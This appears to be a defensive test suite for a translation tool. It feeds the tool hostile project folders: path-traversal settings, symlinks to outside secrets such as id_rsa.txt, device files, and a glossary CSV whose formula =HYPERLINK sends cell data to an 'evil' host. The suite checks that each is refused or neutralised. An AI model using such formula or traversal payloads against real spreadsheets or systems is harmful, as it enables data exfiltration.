"""A project folder from someone else: its settings, links and files cannot reach outside it.

Every case runs ``diglot`` in a subprocess under memory and CPU limits (see
conftest.py) and checks exit code, one stderr line, no traceback, and that
nothing outside the project changed.
"""

from __future__ import annotations

import csv
import json
import os

import pytest

from tests.hostile.conftest import SECRET, refused

BUILD = ("build", "--engine", "none", "--format", "review")


@pytest.mark.parametrize("setting, says", [
    ('out_dir = "../x"', "out_dir '../x' is outside the project"),
    ('out_dir = "/tmp/diglot-hostile-abs"', "out_dir '/tmp/diglot-hostile-abs' is outside the project"),
    ('out_dir = ""', "out_dir is empty: it would mean the project folder itself"),
    ('out_dir = "."', "out_dir '.' is the project folder itself"),
    ('out_dir = "output/../../x"', "out_dir 'output/../../x' is outside the project"),
    ('glossaries = ["../outside/terms.csv"]', "glossaries '../outside/terms.csv' is outside the project"),
])
def test_paths_in_diglot_toml_stay_inside_the_project(world, setting, says):
    world.source()
    world.config(setting + "\n")
    line = refused(world.run(*BUILD), f"diglot.toml: {says}")
    assert "on the command line" in line or "inside the project" in line
    assert not (world.project / "output").exists() and not (world.root / "x").exists()


def test_a_linked_output_folder_that_leads_outside_is_refused_before_translating(world):
    world.source()
    (world.project / "output").symlink_to(world.outside, target_is_directory=True)
    refused(world.run(*BUILD), f"output: is a link to {world.outside}, outside the project",
            "--out")


def test_a_folder_typed_on_the_command_line_is_the_users_choice(world):
    world.source()
    result = world.run(*BUILD, "--out", world.outside / "book")
    assert result.returncode == 0, result.stderr
    assert (world.outside / "book" / "speech.review.docx").is_file()
    world.before = None  # the user asked for the outside folder


def test_a_linked_source_that_leads_outside_is_refused_unless_named(world):
    (world.project / "source").mkdir()
    (world.project / "source" / "key.txt").symlink_to(world.outside / "id_rsa.txt")
    refused(world.run(*BUILD), f"source/key.txt: is a link to {world.outside / 'id_rsa.txt'}, "
            "outside the project", "name it on the command line")
    assert not (world.project / "output").exists()
    named = world.run(*BUILD, world.project / "source" / "key.txt", "--from", "zh")  # named: the user's choice
    assert named.returncode == 0, named.stderr


def test_a_linked_glossary_that_leads_outside_is_refused(world):
    world.source()
    (world.project / "glossary").mkdir()
    (world.project / "glossary" / "terms.csv").symlink_to(world.outside / "terms.csv")
    refused(world.run(*BUILD), "is a link to", "outside the project", "--glossary")


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "dev-urandom", "too-large"])
def test_a_source_must_be_a_regular_file_under_the_size_limit(world, kind):
    if kind == "fifo":
        (world.project / "source").mkdir()
        target = "source/pipe.txt"
        os.mkfifo(world.project / target)
        args, says = BUILD, "is a named pipe (FIFO), not a regular file"
    elif kind.startswith("dev-"):
        target = "/dev/" + kind[4:]
        args, says = (*BUILD, target), "is a device, not a regular file"
    else:
        world.config("max_source_mb = 1\n")
        world.source("big.txt", "发展。" * 400_000)  # 3.6 MB
        target = "source/big.txt"
        args, says = BUILD, "is too large for a source text (3 MB, the limit is 1 MB); raise max_source_mb"
    refused(world.run(*args, memory_mb=1024, cpu_seconds=20, wall_seconds=30), f"{target}: {says}")


def test_diglot_toml_that_is_a_folder_is_refused(world):
    world.source()
    (world.project / "diglot.toml").mkdir()
    refused(world.run(*BUILD), "diglot.toml: is a folder, not a settings file")


def test_a_long_line_without_punctuation_is_cut_in_bounded_memory_and_said_once(world):
    world.source("long.txt", "发展" * 150_000 + "\n")  # 300,000 characters, not one end mark
    result = world.run("build", "--engine", "none", "--format", "epub", memory_mb=1024)
    assert result.returncode == 0, result.stderr[-2000:]
    (warning,) = [line for line in result.stderr.splitlines() if "warning:" in line and "without an end mark" in line]
    assert warning.startswith("diglot: warning: source/long.txt:1: a sentence of 300000 characters without an end "
                              "mark was cut into segments of at most 2000 characters (p")
    assert warning.endswith("); check where it should end")
    assert "Traceback" not in result.stderr


def test_a_nul_byte_deep_in_a_source_is_removed_everywhere_and_said_once(world):
    text = "第一章\n\n" + ("发展" * 300 + "。") * 40 + "\n\n合作\x00共赢。\n"  # the NUL lies past the first 64 KB
    world.source("nul.txt", text)
    result = world.run(*BUILD, "--json")
    assert result.returncode == 0, result.stderr
    summary = json.loads(result.stdout)
    assert [w for w in summary["warnings"] if "U+0000" in w] == [
        "source/nul.txt:5: removed 1 control character(s) (U+0000) that no output "
        "can hold; check the file was saved as text"]
    segment = world.run("segment", world.project / "source" / "nul.txt", "--json")
    assert "\\u0000" not in segment.stdout and "合作共赢。" in segment.stdout


def test_an_empty_glossary_folder_is_a_warning_not_silence(world):
    world.source()
    (world.project / "glossary").mkdir()
    (world.project / "glossary" / "notes.docx").write_bytes(b"not a glossary")
    result = world.run(*BUILD)
    assert result.returncode == 0, result.stderr
    assert result.stderr.count("no glossary files") == 1
    assert "diglot: warning: glossary: no glossary files (.csv, .tsv, .tab, .tbx) in it; built without terms" \
        in result.stderr


def test_formula_cells_are_neutralised_in_the_term_report(world):
    world.source(text="第一章\n\n=HYPERLINK 发展很重要。@SUM 合作。\n")
    (world.project / "glossary").mkdir()
    (world.project / "glossary" / "terms.csv").write_text(
        "source,target\n发展,=HYPERLINK(\"http://evil/\"&A1)\n合作,@SUM(1+1)\n", encoding="utf-8")
    result = world.run("build", "--engine", "none", "--format", "review")
    assert result.returncode == 0, result.stderr
    with open(world.project / "output" / "speech.terms.csv", encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert "'=HYPERLINK(\"http://evil/\"&A1)" in cells and "'@SUM(1+1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    report = json.loads((world.project / "output" / "speech.terms.json").read_text(encoding="utf-8"))
    assert {o["target_term"] for o in report["occurrences"]} == {"=HYPERLINK(\"http://evil/\"&A1)", "@SUM(1+1)"}


def test_a_glossary_folder_without_glossary_files_is_refused_naming_it(world):
    from tests.hostile.conftest import refused

    world.source()
    (world.project / "terms").mkdir()
    (world.project / "terms" / "readme.txt").write_text("the glossary will come later\n")
    result = world.run("build", "--engine", "none", "--glossary", "terms")
    refused(result, "terms: a folder with no glossary files (", "name a glossary file or a folder that holds one")
    assert not (world.project / "output").exists() or not any((world.project / "output").iterdir())
